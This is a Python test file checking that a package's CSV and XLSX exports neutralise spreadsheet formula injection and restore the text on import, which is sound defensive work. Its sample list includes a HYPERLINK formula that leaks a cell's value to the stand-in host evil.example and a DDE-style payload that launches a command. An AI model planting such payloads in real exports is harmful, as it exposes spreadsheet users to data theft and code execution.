"""Formula-looking text is neutralised in every export and restored on import."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from nq57.core.exchange import (
    Column,
    Layout,
    neutralise,
    parse_text,
    read_rows,
    restore,
    write_csv,
    write_xlsx,
)
from nq57.core.exchange.formulas import PREFIX, looks_like_formula

# (A carriage return is neutralised too, see the properties below; XML turns it into a line
# feed inside an XLSX file, so it is left out of the round trip.)
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "   =1+1",
    "'=1+1",
]
LAYOUT = Layout("things", (Column("code", parse_text), Column("title")))


@given(st.text())
def test_an_import_restores_exactly_what_an_export_neutralised(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text())
def test_a_neutralised_text_never_looks_like_a_formula(text: str) -> None:
    written = neutralise(text)
    assert written == text or written == PREFIX + text
    assert not written.lstrip().startswith(("=", "+", "-", "@"))
    assert not written.startswith(("\t", "\r"))


@given(st.text().filter(lambda text: not looks_like_formula(text)))
def test_ordinary_text_is_left_alone_both_ways(text: str) -> None:
    assert neutralise(text) == text
    assert restore(PREFIX + text) == PREFIX + text  # an apostrophe a person typed stays


def _csv(rows: list[dict[str, Any]]) -> bytes:
    out = io.StringIO()
    write_csv(rows, out, LAYOUT)
    return out.getvalue().encode()


def _xlsx(rows: list[dict[str, Any]]) -> bytes:
    out = io.BytesIO()
    write_xlsx(rows, out, LAYOUT)
    return out.getvalue()


def test_csv_cells_start_with_the_prefix() -> None:
    data = _csv([{"code": str(n), "title": title} for n, title in enumerate(DANGEROUS)])
    records = list(csv.reader(io.StringIO(data.decode().lstrip("\ufeff"), newline="")))[1:]
    assert [title for _code, title in records] == [PREFIX + title for title in DANGEROUS]


def test_xlsx_cells_are_strings_never_formulas() -> None:
    data = _xlsx([{"code": str(n), "title": title} for n, title in enumerate(DANGEROUS)])
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(DANGEROUS)
    assert all(str(cell.value).startswith(PREFIX) for cell in cells)


@pytest.mark.parametrize("write", [_csv, _xlsx])
def test_exports_re_import_to_the_same_text(write: Any) -> None:
    rows = [{"code": str(n), "title": title} for n, title in enumerate(DANGEROUS)]
    read = [row.cells["title"] for row in read_rows(io.BytesIO(write(rows)), LAYOUT)]
    assert read == DANGEROUS
